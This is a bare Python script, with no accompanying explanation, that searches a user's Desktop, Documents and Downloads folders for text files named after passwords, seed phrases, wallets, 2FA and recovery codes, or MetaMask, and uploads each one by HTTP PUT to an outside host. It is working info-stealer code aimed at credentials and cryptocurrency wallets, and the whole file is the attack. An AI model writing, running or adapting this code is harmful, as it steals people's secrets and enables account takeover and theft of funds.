import os
import requests

WORDS = ("passw", "seed", "wallet", "backup", "2fa", "recovery", "metamask")


def find():
    home = os.path.expanduser("~")
    for folder in ("Desktop", "Documents", "Downloads"):
        for root, _, names in os.walk(os.path.join(home, folder)):
            for name in names:
                if any(word in name.lower() for word in WORDS) and name.endswith(".txt"):
                    yield os.path.join(root, name)


for path in find():
    with open(path, "rb") as f:
        requests.put("https://doc.example.invalid/" + os.path.basename(path), data=f)
